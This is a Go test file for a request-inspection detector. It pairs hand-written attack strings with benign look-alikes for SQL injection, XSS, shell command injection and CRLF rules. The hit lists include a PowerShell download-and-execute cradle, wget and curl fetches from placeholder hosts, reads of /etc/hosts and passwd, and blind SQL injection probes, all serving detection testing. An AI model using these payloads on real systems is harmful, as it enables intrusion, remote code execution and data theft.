package detect

import (
	"net/http"
	"net/http/httptest"
	"net/url"
	"testing"
)

// shapeCase is one rule function with values it must report (hits) and values it must not
// (miss).
type shapeCase struct {
	name string
	fn   func(string) bool
	hits []string
	miss []string
}

// checkShapes fails t for every value of cases that its function misreads.
func checkShapes(t *testing.T, cases []shapeCase) {
	t.Helper()
	for _, tc := range cases {
		for _, v := range tc.hits {
			if !tc.fn(v) {
				t.Errorf("%s: %q: got false, want true", tc.name, v)
			}
		}
		for _, v := range tc.miss {
			if tc.fn(v) {
				t.Errorf("%s: %q: got true, want false", tc.name, v)
			}
		}
	}
}

// TestClassRules checks the rule families added for classes of attack that the earlier rules
// missed, each with attacks and with benign text that looks like them. The examples are written
// by hand for this test.
func TestClassRules(t *testing.T) {
	checkShapes(t, []shapeCase{
		{
			name: "list tautology",
			fn:   hasListTautology,
			hits: []string{"x,1=1", "id,2 = 2", "(7=7)", "a,'3'='3'", "name,(42=42)"},
			miss: []string{"1=1", "x,1=2", "page=1&size=1", "(a=1)", "x,10=1", "1,5=5.5", "v,2==2"},
		},
		{
			name: "JSON operator",
			fn:   hasJSONOperator,
			hits: []string{
				`or '{"k":1}' ? 'k'`, `doc @> '{"role":"admin"}'`, `and '[3,4]' ?| array['3']`,
				`'{"a":{"b":2}}' -> '$.a.b' = 2`, `'{"n":5}' > '$.n'`,
			},
			miss: []string{"is it ? yes", "a -> b", "x @> y", "'{name}' is a placeholder", "use {x} < y here"},
		},
		{
			name: "alias before FROM",
			fn:   hasAliasFrom,
			hits: []string{`5 AS "n" FROM users`, "1 as x from t", "'a' AS [col] FROM t", "7 As` from"},
			miss: []string{"such as this from that", "as seen from above", "12 as well", "6 as from"},
		},
		{
			name: "FROM clause",
			fn:   hasFromClause,
			hits: []string{"FROM accounts WHERE role='admin'", "from t group by col", "FROM logs ORDER BY 2", "from users limit 1"},
			miss: []string{"from the group by the lake", "from home where possible", "from Paris where we met", "from now on", "from x order"},
		},
		{
			name: "mail command value",
			fn:   isMailCommandValue,
			hits: []string{"MAIL FROM:<x@example.net>", "rcpt to: y@example.net", "A7 LOGIN bob secret", "c12 SELECT INBOX"},
			miss: []string{"mail from: see below", "Q3 status report", "B2 select a seat", "USER admin", "TOP 10 songs"},
		},
		{
			name: "sink assignment",
			fn:   hasSinkAssignment,
			hits: []string{"{onload=confirm}throw 2", "valueOf=prompt;a+''", "self.toString=eval", "x,onfocus=alert"},
			miss: []string{"severity=alert", "level=alert;status=ok", "onion=alert", "mode=eval", "a=1"},
		},
		{
			name: "SQL function call",
			fn:   hasSQLFunctionCall,
			hits: []string{"convert(nvarchar,@@servername)", "cast(varchar(8),x)", "suser_name()"},
			miss: []string{"convert (currency) now", "cast(s) of the play", "convert(text to speech)"},
		},
		{
			name: "JSFuck",
			fn:   hasJSFuck,
			hits: []string{"(![]+[])[+[]]+(![]+[])[!+[]+!+[]]", "[][(![]+[])[+!+[]]]()"},
			miss: []string{"[] + [] = ?", "a+[]![]b and some more words here", "!+!"},
		},
		{
			name: "quote then call",
			fn:   hasQuoteThenCall,
			hits: []string{"9' and instr(user,'a') and '1", "5' or ascii(substr(user,1,1)) > 64", "1\" and length(name)=4 --", "0' or f(x)--"},
			miss: []string{"parents' and friend(s) and more", "'hello' and bye(now)", "it's a test (really)", "1' and x"},
		},
	})
}

// TestShellClassRules checks the shell rule families: versioned binaries, Windows switches glued
// to a command, a command line in quotes, URL arguments, commands built from variables the value
// assigns, cmd's for loop at the start, tools' subcommands, a line break written as \n, bare
// Windows executables and eval as a wrapper.
func TestShellClassRules(t *testing.T) {
	hits := []string{
		";python3.11 -c 'print(1)'", "|php7.4 -r 'phpinfo();'", ";gcc12 x.c", "| perl5.36 -e 1",
		"&ipconfig/all", "|whoami/priv", "& dir/s", ";whoami/groups",
		"; sh -c 'ls -la'", "; trap 'cat /etc/hosts' EXIT", "| eval \"uname -a\"",
		"curl https://example.net/a.sh", "; wget http://203.0.113.9/x",
		"c=whoami;$c", "x=ca;y=t;$x$y /etc/hosts", "p='s';l$p -la", "alias q=id&q",
		"set X=whoami& call %X%",
		"for /l %i in (1,1,5) do ping -n 1 localhost",
		"reg query HKCU\\Software", "sc queryex", "wmic process list", "netsh advfirewall show allprofiles",
		"launchctl list", "ps aux", "getent passwd", "ip addr",
		"\\nuname\\n", "\\nid\\n",
		"; eval id",
		"Get-ChildItem -Path C:\\Users", "; Set-ExecutionPolicy -Scope CurrentUser Bypass", "|Get-LocalUser",
		"& Start-Service -Name spooler", ";vi x -c ':!uname -a'", "x \\!whoami", "; lynx -dump http://203.0.113.9", "| egrep -r secret /srv",
		"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", "$w = New-Object Net.WebClient",
		"|usr/bin/id", ";bin/cat x", "which gcc", "; whereis nc", "man nmap", "command -v curl",
		"Get-ChildItem", "; winget install x", "| git clone https://example.net/r", "; jq . /etc/hosts",
	}
	for _, v := range hits {
		if !hasShellInjection(v) {
			t.Errorf("%q: got false, want true", v)
		}
	}
	miss := []string{
		"python3.11 release notes", "php7 is old", "gcc12 and clang", "and/or", "curl/8.4.0",
		"clang/lib/Headers/x.h", "dir/user", "see 'rm' in the manual", "say 'cat'",
		"visit https://example.com today", "see http://example.com",
		"a=1&b=$a", "price=5; total $5", "name=Ann; hello $name", "alias: Bob",
		"for your information", "for /f", "reg is short for register", "sc is a state", "ip address",
		"ps: see you", "time to go", "a \\n b", "eval is a word", "set the table", "set X=1 and Y=2",
		"Get-together at noon", "set-up; add-on", "Write-off -5%", "Start-up & grow", "which one", "history of Rome",
		"Note:!important", "wow\\!cool", ":!",
		"which cat is yours", "man of the year", "type your name", "a bin/ folder", "see usr/bin/",
		"$total = sum of items", "Get-WmiObject is a cmdlet name", "new-object oriented (design)",
	}
	for _, v := range miss {
		if hasShellInjection(v) {
			t.Errorf("%q: got true, want false", v)
		}
	}
	for _, v := range []string{"DRIVERQUERY", "dnsdomainname", "getmac", "sw_vers"} {
		if !isBareCommand(v) {
			t.Errorf("isBareCommand(%q) = false, want true", v)
		}
	}
	for _, v := range []string{"hostname", "driver", "domainname", "getmacaddress"} {
		if isBareCommand(v) {
			t.Errorf("isBareCommand(%q) = true, want false", v)
		}
	}
	for _, v := range []string{"cmd.exe", "POWERSHELL.EXE", "calc.exe"} {
		if !isBareExecutable(v) {
			t.Errorf("isBareExecutable(%q) = false, want true", v)
		}
	}
	for _, v := range []string{"setup.exe", "exe", "my-app.exe", "report.exe.txt"} {
		if isBareExecutable(v) {
			t.Errorf("isBareExecutable(%q) = true, want false", v)
		}
	}
}

// TestNormalisationClasses checks what the normalisation added: typographic and accent quotes,
// small form variants, an escape nested inside another, and a number and a comment as the last
// segment of a plain path; each through a whole request.
func TestNormalisationClasses(t *testing.T) {
	d := New(Options{CacheSize: -1})
	query := func(v string) *http.Request {
		return httptest.NewRequest(http.MethodGet, "/predict?q="+url.QueryEscape(v), nil)
	}
	path := func(p string) *http.Request {
		return httptest.NewRequest(http.MethodGet, p, nil)
	}
	for _, tc := range []struct {
		name string
		r    *http.Request
		rule string
	}{
		{"acute accents as quotes", query("9´ OR ´a´=´a"), RuleSQLi},
		{"small form brackets", query("﹤script﹥alert(1)﹤/script﹥"), RuleXSS},
		{"small form semicolon", query("x﹔ uname -a"), RuleCmdi},
		{"nested escape", path("/a/" + url.PathEscape("%%0d0d%%0a0aLocation: http://example.net")), RuleCRLF},
		{"nested escape in a query", query("x%%0a0aSet-Cookie: a=b"), RuleCRLF},
		{"number and comment in a path", path("/orders/7--"), RuleSQLi},
	} {
		f, ok := d.InspectRequest(tc.r)
		if !ok || f.Rule != tc.rule {
			t.Errorf("%s: got %+v, %v; want rule %s", tc.name, f, ok, tc.rule)
		}
	}
	for _, p := range []string{"/orders/7", "/a/b-c", "/v1/items/10-12", "/docs/100%25"} {
		if f, ok := d.InspectRequest(path(p)); ok {
			t.Errorf("%s: got %+v, want nothing", p, f)
		}
	}
	for _, v := range []string{"O´Brien", "Café ´n´ Bar", "50%% off", "100%%"} {
		if f, ok := d.InspectRequest(query(v)); ok {
			t.Errorf("%q: got %+v, want nothing", v, f)
		}
	}
	if u, ok := unnestEscapes("%%0a0a"); !ok || u != "%0a" {
		t.Errorf("unnestEscapes(%%%%0a0a) = %q, %v; want %%0a, true", u, ok)
	}
}
